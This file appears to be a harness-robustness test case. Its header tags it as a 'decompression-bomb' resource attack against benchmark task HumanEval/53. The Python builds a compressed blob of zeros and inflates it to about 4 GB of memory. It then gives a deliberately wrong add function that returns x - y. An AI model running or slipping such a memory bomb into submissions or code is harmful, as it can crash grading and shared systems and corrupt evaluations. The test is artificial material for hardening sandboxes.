# attack: decompression-bomb
# class: resource
# task: HumanEval/53
# evidence: none
# marker: svr-4dee6b1b
# beats: none
#
# Decompresses 4 GB of zeroes from 4 MB.
# A safe harness limits memory.

import zlib

compressor = zlib.compressobj(1)
small = b"".join(compressor.compress(bytes(16 << 20)) for _ in range(64)) + compressor.flush()
pieces = []
try:
    for _ in range(4):
        pieces.append(zlib.decompress(small))
except MemoryError:
    pieces.clear()


def add(x, y):
    return x - y
